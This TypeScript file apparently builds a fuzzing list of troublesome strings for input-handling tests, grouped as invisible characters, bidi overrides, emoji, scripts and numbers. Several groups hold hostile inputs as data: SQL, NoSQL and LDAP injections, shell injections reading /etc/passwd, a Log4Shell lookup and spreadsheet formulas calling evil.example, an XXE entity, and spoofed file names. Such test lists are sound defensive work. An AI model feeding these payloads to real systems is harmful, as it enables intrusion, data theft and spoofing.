/*
 * Texts that programs trip over, by kind. Entries are separated by spaced bars or line ends; `\u{…}` is the character of
 * that number, as those that cannot be seen, or break a line, must be written.
 */
const kinds = {
  empty: String.raw`\u{20} ¦ \u{9} ¦ \u{a} ¦ \u{d}\u{a} ¦ \u{b} ¦ \u{c} ¦ \u{85} ¦ \u{a0} ¦ \u{1680} ¦ \u{180e} ¦ \u{2000}\u{2001}\u{2002} ¦ \u{2003} ¦ \u{2007} ¦ \u{200a}
\u{200b} ¦ \u{200b}\u{200b}\u{200b} ¦ \u{200c} ¦ \u{200d} ¦ \u{200e} ¦ \u{200f} ¦ \u{2028} ¦ \u{2029} ¦ \u{202f} ¦ \u{205f} ¦ \u{2060} ¦ \u{2061}\u{2062}\u{2063}\u{2064} ¦ \u{2066}\u{2069}
\u{2800} ¦ \u{2800}\u{2800} ¦ \u{3000} ¦ \u{3164} ¦ \u{115f}\u{1160} ¦ \u{ffa0} ¦ \u{fe0f} ¦ \u{fe00} ¦ \u{feff} ¦ \u{34f} ¦ \u{61c} ¦ \u{17b4}\u{17b5} ¦ \u{180b}\u{180c} ¦ \u{e0001}\u{e0020}\u{e007f} ¦ \u{e0100} ¦ \u{ad} ¦ \u{ad}\u{ad} ¦ \u{1d173}\u{1d17a} ¦ \u{206a}\u{206f} ¦ \u{fff9}\u{fffb} ¦ \u{301} ¦ \u{20dd} ¦ \u{1d159}`,
  edges: String.raw`\u{20}a ¦ a\u{20} ¦ \u{a0}a\u{a0} ¦ a\u{20}\u{20}b ¦ a\u{a0}b ¦ a\u{3000}b ¦ a\u{2003}b ¦ a\u{9}b ¦ a\u{a}b ¦ a\u{d}\u{a}b ¦ a\u{d}b ¦ \u{a}a ¦ a\u{2028}b ¦ a\u{2029}b ¦ a\u{85}b ¦ \u{feff}a ¦ a\u{feff} ¦ a\u{a}\u{a}\u{a}b ¦ \u{2028}a ¦ a\u{b}b ¦ a\u{c}b`,
  directions: String.raw`\u{202e}gnp.exe ¦ invoice\u{202e}fdp.exe ¦ \u{202d}abc\u{202c} ¦ \u{202a}a\u{202b}b\u{202c}c ¦ \u{2067}abc ¦ \u{2066}abc\u{2069} ¦ \u{2068}\u{5d0}\u{2069} x ¦ a\u{2069}\u{2069}b ¦ \u{200f}abc ¦ \u{200e}\u{5d0} ¦ \u{61c}1-2
מבחן ¦ שלום world שלום ¦ اختبار ¦ مرحبا abc 123 ¦ ١٢٣ 456 ¦ ﷽ ¦ (עברית) [x] <y> ¦ ltr עברית. ¦ \u{202e}\u{202e}\u{202e}abc ¦ file\u{200f}.txt ¦ ܫܠܡܐ ¦ ދިވެހި ¦ 𞤀𞤣𞤤𞤢𞤥 ¦ \u{10a60}\u{10a61} ¦ ‮‮ test ¦ پیام‌های ¦ می‌خواهم`,
  hidden: String.raw`Go\u{200b}ld ¦ Go\u{ad}ld ¦ \u{feff}Gold ¦ Gold\u{200d} ¦ G\u{2060}old ¦ Gol\u{34f}d ¦ Gold\u{fe0f} ¦ Gold\u{e0067}\u{e006f} ¦ G\u{180e}old ¦ Go\u{3164}ld ¦ Gold\u{200b}\u{200b}\u{200b}\u{200b} ¦ \u{200c}Gold\u{200c} ¦ a\u{61c}b ¦ a\u{206f}b ¦ a\u{17b4}b ¦ a\u{fff9}b\u{fffa}c\u{fffb}`,
  controls: String.raw`\u{0} ¦ a\u{0}b ¦ a\u{1}b ¦ \u{7} ¦ a\u{8}b ¦ a\u{1b}[31mred ¦ a\u{1b}]0;t\u{7} ¦ a\u{7f}b ¦ a\u{80}b ¦ a\u{9b}b ¦ a\u{9f}b ¦ \u{0}\u{0}\u{0} ¦ a\u{1a} ¦ a\u{4}b ¦ a\u{e}b ¦ a\u{1f}b ¦ a%00b ¦ a\0b ¦ a\u{1e}\u{1d}b ¦ \u{2}\u{3}`,
  halves: String.raw`\u{d800} ¦ \u{dfff} ¦ a\u{d83d} ¦ \u{de00}a ¦ a\u{d83d}b ¦ \u{de00}\u{d83d} ¦ x\u{d83d}\u{d83d}\u{de00} ¦ \u{dbff}\u{dbff} ¦ 😀\u{d83d} ¦ \u{dc00}😀 ¦ \u{fffe} ¦ \u{ffff} ¦ a\u{ffff}b ¦ \u{fdd0} ¦ \u{1fffe} ¦ \u{10ffff} ¦ \u{fffd} ¦ a\u{fffd}b ¦ \u{e000} ¦ \u{f8ff} ¦ \u{f0000} ¦ \u{378}`,
  piles: String.raw`Z\u{351}\u{36b}\u{343}\u{36a}a\u{34c}\u{312}l\u{302}\u{301}g\u{361}\u{489}o\u{321} ¦ e\u{301} ¦ \u{e9} ¦ \u{212b} \u{c5} A\u{30a} ¦ \u{1e69} s\u{323}\u{307} s\u{307}\u{323} ¦ a\u{308}\u{304} ¦ \u{301}abc ¦ a\u{20dd} ¦ q\u{307}\u{323} ¦ \u{1e9b}\u{323} ¦ \u{fb2c} ¦ \u{1d160} ¦ \u{3a9} \u{2126} ¦ \u{1100}\u{1161}\u{11a8} ¦ 각 ¦ \u{958} ¦ क\u{94d}षि ¦ ก\u{e34}\u{e48}\u{e49}\u{e4a}\u{e4b} ¦ \u{f40}\u{f71}\u{f74}\u{f80} ¦ \u{1112}\u{1161}\u{11ab}\u{1100}\u{1173}\u{11af} ¦ ○\u{20e0} ¦ i\u{307}\u{323} ¦ x\u{336}y\u{336}z\u{336}`,
  emoji: String.raw`😀 ¦ 👩‍👩‍👧‍👦 ¦ 👨🏿‍🚀 ¦ 🏳️‍🌈 ¦ 🏴󠁧󠁢󠁥󠁮󠁧󠁿 ¦ 🇺🇸🇷🇺🇸 ¦ 🇺 ¦ 1️⃣ #️⃣ ¦ ❤️ ❤︎ ¦ 👍🏻👍🏿 ¦ 🧑‍🤝‍🧑 ¦ 🐈‍⬛ ¦ 😶‍🌫️ ¦ ☺ ¦ ©️ ® ™ ¦ 🫠 ¦ 👁️‍🗨️ ¦ 🏻 ¦ 🤷🏽‍♀️ ¦ 🎉🎉🎉🎉🎉🎉🎉🎉🎉🎉 ¦ 🅰🅱🆎 ¦ 🀄🃏 ¦ 👩\u{200d} ¦ \u{200d}👩 ¦ ⛹🏿‍♂️⛹🏿‍♂️`,
  database: String.raw`' OR '1'='1 ¦ '; DROP TABLE packages;-- ¦ 1;SELECT pg_sleep(9) ¦ " OR ""=" ¦ admin'-- ¦ ') UNION SELECT NULL-- ¦ 1 AND 1=1 ¦ %' AND 1=0 ¦ \' OR 1=1 ¦ 0x27 ¦ {"$gt":""} ¦ {"$ne":null} ¦ {"$where":"sleep(9)"} ¦ [$ne]=1 ¦ '||'1'=='1 ¦ $where ¦ #status = :active ¦ attribute_exists(pk) ¦ :value ¦ #pk ¦ D#meridian-hr ¦ P#01JD ¦ NAME#gold ¦ V#00000001 ¦ a#b#c ¦ # ¦ ## ¦ Gold #0000000000001001 ¦ {"S":"x"} ¦ {"M":{}} ¦ {"NULL":true} ¦ * ¦ *)(uid=*))(|(uid=* ¦ admin)(&) ¦ )(cn=)) ¦ (&(objectClass=*)) ¦ \2a\28 ¦ ' or count(/*)=1 or 'a'='b ¦ _ ¦ %`,
  shell: String.raw`$(touch /tmp/x) ¦ \u{60}id\u{60} ¦ ; ls ¦ | cat /etc/passwd ¦ && whoami ¦ $HOME ¦ %PATH% ¦ ../../../etc/passwd ¦ ..\..\windows\win.ini ¦ file:///etc/passwd ¦ C:\con\con ¦ con ¦ nul ¦ AUX.txt ¦ /dev/null ¦ ~ ¦ -rf ¦ --help ¦ - ¦ -- ¦ . ¦ .. ¦ ... ¦ / ¦ // ¦ \ ¦ \\ ¦ \\server\share ¦ a/b ¦ a\b ¦ a:b ¦ a*b?c ¦ <in >out ¦ \u{24}{IFS} ¦ () { :; }; echo x ¦ !! ¦ %n%n%s%x ¦ %s ¦ %d ¦ {0} ¦ \u{24}{jndi:ldap://evil.example/a} ¦ %{(#a)} ¦ a%0d%0aSet-Cookie:x=y ¦ a\r\nB: c`,
  formulas: String.raw`=1+1 ¦ =cmd|' /C calc'!A0 ¦ =HYPERLINK("https://evil.example","x") ¦ =IMPORTXML("https://evil.example","//a") ¦ +1+1 ¦ -1+1 ¦ -2 ¦ @SUM(1,1) ¦ @x ¦ \u{9}=1+1 ¦ \u{20}=1+1 ¦ '=1+1 ¦ "=1+1" ¦ a,b ¦ a;b ¦ "a" ¦ a"b ¦ ""a"" ¦ a,"b ¦ , ¦ " ¦ "" ¦ ' ¦ '' ¦ ;=1+1 ¦ DDE("cmd";"x") ¦ %3D1+1 ¦ ＝1+1 ¦ ＋1 ¦ ＠SUM ¦ =\u{200b}1 ¦ _x0041_ ¦ _x005F_x0041_ ¦ _x000D_ ¦ \u{60}=1+1`,
  numbers: `0 ¦ -0 ¦ 00 ¦ 007 ¦ 1.0 ¦ 1e5 ¦ 1E-7 ¦ 1e309 ¦ -1e309 ¦ 0x1F ¦ 0b11 ¦ 1_000 ¦ 1,000 ¦ 1.000,00 ¦ 12345678901234567890 ¦ 0.1 ¦ .5 ¦ 5. ¦ NaN ¦ Infinity ¦ -Infinity ¦ ∞ ¦ 1/2 ¦ ½ ¦ ² ¦ Ⅷ ¦ ४२ ¦ ４２ ¦ 1st ¦ 3/4 ¦ 2026-11-20 ¦ MARCH1 ¦ 12:30 ¦ 24:00 ¦ 08:00 ¦ 8:00 ¦ 99999999999999999999999999999999 ¦ 1.7976931348623157e308 ¦ 9007199254740993 ¦ 0000-00-00 ¦ +1 ¦ 1 ¦ 1001`,
  words: `null ¦ NULL ¦ nil ¦ None ¦ undefined ¦ true ¦ FALSE ¦ yes ¦ on ¦ __proto__ ¦ constructor ¦ prototype ¦ toString ¦ hasOwnProperty ¦ valueOf ¦ __defineGetter__ ¦ isPrototypeOf ¦ toJSON ¦ then ¦ length ¦ name ¦ default ¦ eval ¦ [object Object] ¦ function(){} ¦ ()=>{} ¦ new Date() ¦ NONE ¦ new ¦ undefined undefined ¦ System ¦ Empty ¦ – ¦ No package ¦ __proto__.polluted ¦ constructor[prototype] ¦ {"__proto__":{"polluted":1}} ¦ Select a Package`,
  json: String.raw`{} ¦ [] ¦ {"a":1} ¦ {"a":[1,2,{"b":null}]} ¦ [[[[[]]]]] ¦ " ¦ \" ¦ \u0041 ¦ \u{5c}u0000 ¦ \x41 ¦ {"a" ¦ } ¦ ] ¦ , ¦ : ¦ {n} ¦ {id} ¦ {name} ¦ {user} ¦ {{employer}} ¦ {{ employer }} ¦ {{nobody}} ¦ {{ ¦ }} ¦ {{{{employer}}}} ¦ {{employer ¦ $& ¦ $1 ¦ $$ ¦ $\u{60} ¦ $' ¦ $<name> ¦ \n ¦ \t ¦ <![CDATA[x]]> ¦ <!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y; ¦ &amp; ¦ &lt;b&gt; ¦ &nbsp; ¦ &unknown; ¦ &#0; ¦ &#xD800; ¦ & ¦ < ¦ > ¦ a < b > c ¦ 1<2 ¦ a<b`,
  scripts: String.raw`Ελληνικά ΣΑΣ σας ¦ Русский текст ¦ Українська ґ ¦ Հայերեն ¦ ქართული ¦ हिन्दी ¦ বাংলা ¦ தமிழ் ¦ తెలుగు ¦ ไทยภาษา ¦ ລາວ ¦ ភាសាខ្មែរ ¦ မြန်မာ ¦ བོད་ཡིག ¦ 中文測試 ¦ 日本語テスト ¦ ﾊﾝｶｸ ¦ 한국어 ¦ ᠮᠣᠩᠭᠣᠯ ¦ አማርኛ ¦ ᏣᎳᎩ ¦ Tiếng Việt ¦ ʻŌlelo ¦ 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 ¦ 𝒜𝓁𝓅𝒽𝒶 ¦ ｆｕｌｌｗｉｄｔｈ ¦ ⓒⓘⓡⓒⓛⓔ ¦ 𠜎𠜱𠝹 ¦ 𓀀𓂀 ¦ 𐌰𐌱 ¦ 田中さんにあげて下さい ¦ Ⱥⱥ Ⱦⱦ ¦ ꙮ ¦ ☃ ✓ ★ ¦ ┬─┬ノ( º _ ºノ) ¦ ¯\_(ツ)_/¯ ¦ аdmin ¦ pаypal ¦ ˙ɐnbᴉlɐ`,
  letters: `ß ¦ SS ¦ ẞ ¦ Straße ¦ STRASSE ¦ I ¦ i ¦ ı ¦ İ ¦ İstanbul ¦ ISTANBUL ¦ ıstanbul ¦ ﬁ ¦ fi ¦ FI ¦ ﬃ ¦ ﬆ ¦ ĳ Ĳ ¦ ŉ ¦ ǅ Ǆ ǆ ¦ ſ ¦ s ¦ K ¦ K ¦ k ¦ ς Σ σ ¦ ΐ ¦ ὒ ¦ ᾳ ᾼ ¦ և ¦ Ⴀ ⴀ ა Ა ¦ Ꭰ ꭰ ¦ µ μ ¦ œ Œ ¦ æ Æ ¦ ø Ø ¦ ð Đ đ ¦ þ ¦ ł Ł ¦ a ᵃ ª ¦ № ¦ ﷲ ¦ ㎏ ¦ ㍿ ¦ Å ¦ é ¦ ø`,
} as const;

const decoded = (text: string): string =>
  text.replace(/\\u\{([0-9a-f]+)\}/gi, (_all, code: string) =>
    String.fromCodePoint(Number.parseInt(code, 16)),
  );

/** Words without a place to break, and texts at and beyond the limits of fields. */
const long = [
  'W'.repeat(100),
  'W'.repeat(101),
  'i'.repeat(120),
  'i'.repeat(121),
  'm'.repeat(1000),
  'M'.repeat(1001),
  '\u{1f600}'.repeat(50),
  '\u{1f600}'.repeat(51),
  '\u{1f469}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{200d}\u{1f466}'.repeat(8),
  `a${'\u0301'.repeat(99)}`,
  `a${'\u0489\u0327'.repeat(45)}`,
  '\u0390'.repeat(100),
  '\ufdfa'.repeat(100),
  '\ud55c'.repeat(100),
  '\u200b'.repeat(100),
  '\u202e'.repeat(100),
  '_'.repeat(100),
  'https://x.example/'.padEnd(500, 'p'),
  `${'a'.repeat(64)}@${'b'.repeat(60)}.example`,
  `${'word '.repeat(24)}`.trim(),
  '\u0130'.repeat(100),
  '\u00df'.repeat(100),
  '\ufb03'.repeat(100),
  '('.repeat(100),
  '&amp;'.repeat(20),
  '<'.repeat(100),
  '{'.repeat(100),
  '<b>'.repeat(33),
  'https://'.repeat(12),
  '\u{1d160}'.repeat(33),
];

/** All of them, each once. */
export const naughtyStrings: readonly string[] = [
  ...new Set(['', ...Object.values(kinds).flatMap((texts) => texts.split(/ ¦ |\n/).map(decoded)), ...long]),
];
